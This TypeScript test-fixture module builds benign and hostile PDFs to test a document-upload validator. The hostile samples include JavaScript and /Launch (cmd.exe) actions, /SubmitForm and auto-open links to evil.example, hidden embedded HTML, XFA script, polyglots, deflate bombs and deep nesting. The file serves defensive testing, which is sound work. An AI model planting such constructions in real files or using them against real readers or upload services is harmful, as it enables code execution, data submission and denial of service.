import { deflateSync } from 'node:zlib';
import { PDFDocument, PDFString, StandardFonts } from 'pdf-lib';
import PDFKit from 'pdfkit';
import sharp from 'sharp';
import { DOCUMENT_MAX_BYTES, documentFileMessages as m } from '~/shared/document-files';
import { HTML_PAYLOAD, PAYLOAD_MARKER } from './hostile-files';

/**
 * Builders of PDFs for the document-upload checks (server/media/uploaded-document.ts): good ones a
 * seller or a lender might send, and hostile ones (scripts, actions, attached files, broken or lying
 * structure, floods). Most are written by hand as PDF text, with a small assembler that computes the
 * cross-reference offsets, so each differs from a good file in exactly one way; the rest come from
 * pdfkit and pdf-lib, as real producers. Every builder is deterministic, and every hostile payload
 * carries PAYLOAD_MARKER, so a stored file can be searched for it.
 */

export type HostilePdf = {
  name: string;
  bytes: Buffer;
  expected: 'accepted' | 'refused';
  /** The refusal's words (documentFileMessages). */
  message?: string;
  /** What an accepted file is stored as: a file that is a JPEG first is an image, whatever follows. */
  storedAs?: 'application/pdf' | 'image/jpeg';
};

const latin1 = (text: string) => Buffer.from(text, 'latin1');
const HEADER = latin1('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n');
const offset10 = (n: number) => String(n).padStart(10, '0');
/** A JavaScript action carrying the marker, as a dictionary. */
const JS_ACTION = `<< /Type /Action /S /JavaScript /JS (app.alert\\('${PAYLOAD_MARKER}'\\)) >>`;

/** An object's body: a dictionary (string) or a stream (bytes, from `streamObject`). */
export type PdfObjectBody = string | Buffer;

/** A stream object: its dictionary's entries (without /Length, which is computed) and its data. */
export function streamObject(entries: string, data: string | Buffer): Buffer {
  const bytes = typeof data === 'string' ? latin1(data) : data;
  return Buffer.concat([latin1(`<< ${entries} /Length ${bytes.length} >>\nstream\n`), bytes, latin1('\nendstream')]);
}

/** Objects 1…n written one after another from `start`; returns the bytes and each object's offset. */
function writeObjects(objects: PdfObjectBody[], start: number, firstNumber = 1) {
  const chunks: Buffer[] = [];
  const offsets: number[] = [];
  let at = start;
  objects.forEach((body, i) => {
    const chunk = Buffer.concat([
      latin1(`${firstNumber + i} 0 obj\n`),
      typeof body === 'string' ? latin1(body) : body,
      latin1('\nendobj\n'),
    ]);
    offsets.push(at);
    chunks.push(chunk);
    at += chunk.length;
  });
  return { bytes: Buffer.concat(chunks), offsets, end: at };
}

/**
 * A PDF of objects 1…n (object 1 the catalogue) with a classic cross-reference table. Options bend
 * it: every offset shifted by `xrefShift` bytes, a `startxref` pointing elsewhere, more trailer entries.
 */
export function assemblePdf(
  objects: PdfObjectBody[],
  options: { trailer?: string; xrefShift?: number; startxref?: number } = {},
): Buffer {
  const body = writeObjects(objects, HEADER.length);
  const shift = options.xrefShift ?? 0;
  const table =
    `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n` +
    body.offsets.map((offset) => `${offset10(offset + shift)} 00000 n \n`).join('');
  const trailer = `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${options.trailer ?? ''}>>\n`;
  return Buffer.concat([
    HEADER,
    body.bytes,
    latin1(`${table}${trailer}startxref\n${options.startxref ?? body.end}\n%%EOF\n`),
  ]);
}

/**
 * A PDF 1.5 file: the same objects, located by a cross-reference stream (W [1 4 2]) instead of a
 * table, its rows PNG-predicted (Up) and deflated, as Acrobat writes them.
 */
export function assembleWithXrefStream(objects: PdfObjectBody[]): Buffer {
  const body = writeObjects(objects, HEADER.length);
  const rows = [[0, 0, 0xffff], ...body.offsets.map((offset) => [1, offset, 0]), [1, body.end, 0]];
  const raw = rows.map(([type = 0, offset = 0, generation = 0]) => {
    const row = Buffer.alloc(7);
    row.writeUInt8(type, 0);
    row.writeUInt32BE(offset, 1);
    row.writeUInt16BE(generation, 5);
    return row;
  });
  const predicted = raw.map((row, r) =>
    Buffer.concat([Buffer.from([2]), Buffer.from(row.map((byte, i) => (byte - (raw[r - 1]?.[i] ?? 0)) & 0xff))]),
  );
  const size = objects.length + 2;
  const xref = streamObject(
    `/Type /XRef /Size ${size} /W [1 4 2] /Root 1 0 R /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 7 >>`,
    deflateSync(Buffer.concat(predicted)),
  );
  const xrefObject = writeObjects([xref], body.end, size - 1);
  return Buffer.concat([HEADER, body.bytes, xrefObject.bytes, latin1(`startxref\n${body.end}\n%%EOF\n`)]);
}

/**
 * An incremental update appended to `base`: objects replaced or added, a table of them, and /Prev
 * back to the base's table (or, with `prev: 'self'`, to the new table itself: a loop).
 */
export function appendUpdate(
  base: Buffer,
  objects: Record<number, PdfObjectBody>,
  options: { size: number; prev?: 'self' },
): Buffer {
  const chunks: Buffer[] = [base];
  const entries: string[] = [];
  let at = base.length;
  for (const [number, body] of Object.entries(objects)) {
    const written = writeObjects([body], at, Number(number));
    entries.push(`${number} 1\n${offset10(at)} 00000 n \n`);
    chunks.push(written.bytes);
    at = written.end;
  }
  const prev = options.prev === 'self' ? at : lastStartxref(base);
  const trailer = `trailer\n<< /Size ${options.size} /Root 1 0 R /Prev ${prev} >>\n`;
  chunks.push(latin1(`xref\n0 1\n0000000000 65535 f \n${entries.join('')}${trailer}startxref\n${at}\n%%EOF\n`));
  return Buffer.concat(chunks);
}

const lastStartxref = (pdf: Buffer) => Number(/startxref\s+(\d+)\s+%%EOF\s*$/.exec(pdf.toString('latin1'))?.[1]);

/** A page's content: black text and a rule on a white page. */
const pageContent = (text: string) =>
  streamObject('', `BT /F1 28 Tf 72 720 Td (${text}) Tj ET\n0 0 0 RG 4 w 72 700 m 520 700 l S\n`);

/**
 * The objects of a one-page document: 1 catalogue, 2 page tree, 3 page, 4 font, 5 content; `extra`
 * objects are numbered from 6. Each option adds entries to one dictionary.
 */
export function documentObjects(
  options: { catalog?: string; page?: string; mediaBox?: string; extra?: PdfObjectBody[] } = {},
): PdfObjectBody[] {
  return [
    `<< /Type /Catalog /Pages 2 0 R ${options.catalog ?? ''}>>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox ${options.mediaBox ?? '[0 0 595 842]'} ` +
      `/Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R ${options.page ?? ''}>>`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    pageContent('V5C registration certificate'),
    ...(options.extra ?? []),
  ];
}

const handMade = (
  options: Parameters<typeof documentObjects>[0] = {},
  assemble: Parameters<typeof assemblePdf>[1] = {},
) => assemblePdf(documentObjects(options), assemble);

/** A link annotation over the title, with `action` as its /A. */
const linkWith = (action: string) =>
  `<< /Type /Annot /Subtype /Link /Rect [72 710 520 750] /Border [0 0 0] /A ${action} >>`;

/** A PDF made by pdfkit, as a real producer writes one (fixed dates: the same bytes every run). */
export function pdfkitPdf(pages: string[], info: { Author?: string } = {}): Promise<Buffer> {
  const doc = new PDFKit({ size: 'A4', info: { ...info, CreationDate: new Date('2025-01-02T03:04:05Z') } });
  const chunks: Buffer[] = [];
  doc.on('data', (chunk: Buffer) => chunks.push(chunk));
  const ended = new Promise<Buffer>((resolve) => doc.on('end', () => resolve(Buffer.concat(chunks))));
  pages.forEach((text, i) => {
    if (i > 0) doc.addPage();
    doc.fontSize(28).fillColor('black').text(text, 72, 72);
  });
  doc.end();
  return ended;
}

/**
 * A PDF made by pdf-lib with object streams and a cross-reference stream (PDF 1.5). With
 * `javascript`, a JavaScript action that nothing refers to is hidden in an object stream
 * (compressed: the marker is not in the file's bytes), so only unpacking the stream finds it.
 */
export async function pdfLibPdf(options: { javascript?: boolean } = {}): Promise<Buffer> {
  const doc = await PDFDocument.create({ updateMetadata: false });
  const font = await doc.embedFont(StandardFonts.Helvetica);
  doc.addPage([595, 842]).drawText('Finance settlement letter', { x: 72, y: 720, size: 28, font });
  if (options.javascript) {
    doc.context.register(doc.context.obj({ S: 'JavaScript', JS: PDFString.of(`app.alert('${PAYLOAD_MARKER}')`) }));
  }
  const bytes = Buffer.from(await doc.save({ useObjectStreams: true }));
  if (bytes.includes(PAYLOAD_MARKER))
    throw new Error('the JavaScript was meant to be inside a compressed object stream');
  return bytes;
}

/** A page tree of `count` pages sharing one content stream. */
function manyPages(count: number): Buffer {
  const kids = Array.from({ length: count }, (_, i) => `${i + 3} 0 R`).join(' ');
  const pages = Array.from(
    { length: count },
    () =>
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 ${count + 3} 0 R >> >> /Contents ${count + 4} 0 R >>`,
  );
  return assemblePdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages /Kids [${kids}] /Count ${count} >>`,
    ...pages,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    pageContent('Service history'),
  ]);
}

/** A small JPEG of one colour (no noise: the same bytes every run). */
const plainJpeg = () =>
  sharp({ create: { width: 96, height: 64, channels: 3, background: '#336699' } })
    .jpeg({ quality: 85 })
    .toBuffer();

/** The catalogue: good files first, then hostile ones. */
export async function hostilePdfCatalogue(): Promise<HostilePdf[]> {
  const onePage = await pdfkitPdf(['V5C registration certificate'], { Author: `Jane Seller ${PAYLOAD_MARKER}` });
  const accepted = (name: string, bytes: Buffer, storedAs: HostilePdf['storedAs'] = 'application/pdf'): HostilePdf => ({
    name,
    bytes,
    expected: 'accepted',
    storedAs,
  });
  const refused = (name: string, bytes: Buffer, message: string): HostilePdf => ({
    name,
    bytes,
    expected: 'refused',
    message,
  });
  const base = handMade();
  // Zeros deflate about 1000 to 1: a small file that would decode past the 128 MB a stream may.
  const bomb = deflateSync(Buffer.alloc(160 * 1024 * 1024));
  return [
    // Good: each must be accepted and stored rebuilt.
    accepted('one page by pdfkit (author metadata must be dropped)', onePage),
    accepted('three pages by pdfkit', await pdfkitPdf(['Service history', 'Page two', 'Page three'])),
    accepted('one page written by hand', base),
    accepted(
      'incremental update (/Prev) replacing the page content',
      appendUpdate(base, { 5: pageContent('V5C registration certificate (updated)') }, { size: 6 }),
    ),
    accepted('object streams and a cross-reference stream (pdf-lib)', await pdfLibPdf()),
    accepted('cross-reference stream with a PNG predictor', assembleWithXrefStream(documentObjects())),
    accepted(
      'web link annotation (/URI) and an /OpenAction destination array',
      handMade({
        catalog: '/OpenAction [3 0 R /Fit]',
        page: '/Annots [6 0 R]',
        extra: [linkWith('<< /S /URI /URI (https://www.example.co.uk/settlement) >>')],
      }),
    ),
    accepted(
      'objects that refer to each other in a loop',
      handMade({ page: '/PieceInfo 6 0 R', extra: ['<< /Self 6 0 R /Other 7 0 R >>', '<< /Back 6 0 R >>'] }),
    ),
    accepted('HTML page appended after %%EOF', Buffer.concat([onePage, HTML_PAYLOAD])),
    accepted(
      'JPEG followed by a PDF with JavaScript (a JPEG first: stored as a re-encoded image)',
      Buffer.concat([await plainJpeg(), handMade({ catalog: '/OpenAction 6 0 R', extra: [JS_ACTION] })]),
      'image/jpeg',
    ),

    // Scripts, actions, attached files.
    refused('/OpenAction JavaScript', handMade({ catalog: '/OpenAction 6 0 R', extra: [JS_ACTION] }), m.activeContent),
    refused(
      '/OpenAction web link (opens a site by itself)',
      handMade({ catalog: `/OpenAction << /S /URI /URI (https://evil.example/${PAYLOAD_MARKER}) >>` }),
      m.activeContent,
    ),
    refused(
      '/Names /JavaScript name tree',
      handMade({ catalog: '/Names << /JavaScript 6 0 R >>', extra: ['<< /Names [(start) 7 0 R] >>', JS_ACTION] }),
      m.activeContent,
    ),
    refused('page /AA (on open) action', handMade({ page: '/AA << /O 6 0 R >>', extra: [JS_ACTION] }), m.activeContent),
    refused(
      'link annotation with a JavaScript action',
      handMade({
        page: '/Annots [6 0 R]',
        extra: [linkWith(`<< /S /JavaScript /JS (app.alert\\('${PAYLOAD_MARKER}'\\)) >>`)],
      }),
      m.activeContent,
    ),
    refused(
      'link with a javascript: URI',
      handMade({
        page: '/Annots [6 0 R]',
        extra: [linkWith(`<< /S /URI /URI (javascript:alert\\('${PAYLOAD_MARKER}'\\)) >>`)],
      }),
      m.activeContent,
    ),
    refused(
      '/Launch action',
      handMade({
        page: '/Annots [6 0 R]',
        extra: [linkWith(`<< /S /Launch /Win << /F (cmd.exe) /P (/c echo ${PAYLOAD_MARKER}) >> >>`)],
      }),
      m.activeContent,
    ),
    refused(
      '/SubmitForm action',
      handMade({
        page: '/Annots [6 0 R]',
        extra: [linkWith(`<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/${PAYLOAD_MARKER}) >> >>`)],
      }),
      m.activeContent,
    ),
    refused(
      'GoTo link whose /Next runs /ImportData',
      handMade({
        page: '/Annots [6 0 R]',
        extra: [linkWith(`<< /S /GoTo /D [3 0 R /Fit] /Next << /S /ImportData /F (${PAYLOAD_MARKER}.fdf) >> >>`)],
      }),
      m.activeContent,
    ),
    refused(
      'action type written with lower-case #xx escapes (/#4aavaScript)',
      handMade({
        catalog: '/OpenAction [3 0 R /Fit]',
        page: '/Annots [6 0 R]',
        extra: [linkWith(`<< /S /#4aavaScript /#4aS (${PAYLOAD_MARKER}) >>`)],
      }),
      m.activeContent,
    ),
    refused(
      '/EmbeddedFiles with a file specification',
      handMade({
        catalog: '/Names << /EmbeddedFiles << /Names [(invoice.html) 6 0 R] >> >>',
        extra: [
          '<< /Type /Filespec /F (invoice.html) /EF << /F 7 0 R >> >>',
          streamObject('/Type /EmbeddedFile', HTML_PAYLOAD),
        ],
      }),
      m.activeContent,
    ),
    refused(
      '/FileAttachment annotation',
      handMade({
        page: '/Annots [6 0 R]',
        extra: [
          `<< /Type /Annot /Subtype /FileAttachment /Rect [72 600 92 620] /FS << /Type /Filespec /F (${PAYLOAD_MARKER}.html) >> >>`,
        ],
      }),
      m.activeContent,
    ),
    refused(
      'XFA form',
      handMade({
        catalog: '/AcroForm << /Fields [] /XFA 6 0 R >>',
        extra: [
          streamObject(
            '',
            `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>${PAYLOAD_MARKER}</script></xdp:xdp>`,
          ),
        ],
      }),
      m.activeContent,
    ),
    refused('JavaScript hidden in an object stream (pdf-lib)', await pdfLibPdf({ javascript: true }), m.activeContent),
    refused(
      'JavaScript in an object nothing refers to',
      handMade({ extra: [`<< /S /JavaScript /JS (app.alert\\('${PAYLOAD_MARKER}'\\)) >>`] }),
      m.activeContent,
    ),

    // Encryption.
    refused(
      'encrypted (/Encrypt in the trailer)',
      handMade(
        { extra: [`<< /Filter /Standard /V 1 /R 2 /O <${'0'.repeat(64)}> /U <${'0'.repeat(64)}> /P -44 >>`] },
        { trailer: `/Encrypt 6 0 R /ID [<${'ab'.repeat(16)}> <${'ab'.repeat(16)}>]` },
      ),
      m.encrypted,
    ),

    // Structure.
    refused('cross-reference offsets shifted by 3 bytes', handMade({}, { xrefShift: 3 }), m.damaged),
    refused(
      'incremental update over a broken older table',
      appendUpdate(handMade({}, { xrefShift: -2 }), { 5: pageContent('Updated') }, { size: 6 }),
      m.damaged,
    ),
    refused(
      '/Prev pointing back at its own section',
      appendUpdate(base, { 5: pageContent('Loop') }, { size: 6, prev: 'self' }),
      m.damaged,
    ),
    refused('startxref pointing past the end', handMade({}, { startxref: 999_999 }), m.damaged),
    refused(
      'no cross-reference table at all',
      Buffer.concat([HEADER, writeObjects(documentObjects(), HEADER.length).bytes, latin1('startxref\n15\n%%EOF\n')]),
      m.damaged,
    ),
    refused('cut short (truncated at 60%)', onePage.subarray(0, Math.floor(onePage.length * 0.6)), m.damaged),
    refused('header only', latin1('%PDF-1.7\n'), m.damaged),

    // Not a PDF first, or too big.
    refused('HTML page before %PDF (polyglot)', Buffer.concat([HTML_PAYLOAD, onePage]), m.notAccepted),
    refused(
      'exactly 10 MB + 1 byte',
      Buffer.concat([base, Buffer.alloc(DOCUMENT_MAX_BYTES + 1 - base.length, 0x20)]),
      m.tooLarge,
    ),
    refused('empty file', Buffer.alloc(0), m.empty),

    // Floods and loops.
    refused('page of 20000 inches a side', handMade({ mediaBox: '[0 0 1440000 1440000]' }), m.damaged),
    refused('51 pages', manyPages(51), m.tooManyPages),
    refused(
      'page tree that contains itself',
      assemblePdf(
        documentObjects().map((body, i) => (i === 1 ? '<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 2 >>' : body)),
      ),
      m.damaged,
    ),
    refused(
      'deflate bomb in an object stream (160 MB of zeros)',
      handMade({ extra: [streamObject('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', bomb)] }),
      m.damaged,
    ),
    refused(
      'deflate bomb as the page content',
      assemblePdf(documentObjects().map((body, i) => (i === 4 ? streamObject('/Filter /FlateDecode', bomb) : body))),
      m.damaged,
    ),
    refused(
      'arrays nested 100000 deep',
      handMade({ extra: [`${'['.repeat(100_000)}(${PAYLOAD_MARKER})${']'.repeat(100_000)}`] }),
      m.damaged,
    ),
  ];
}
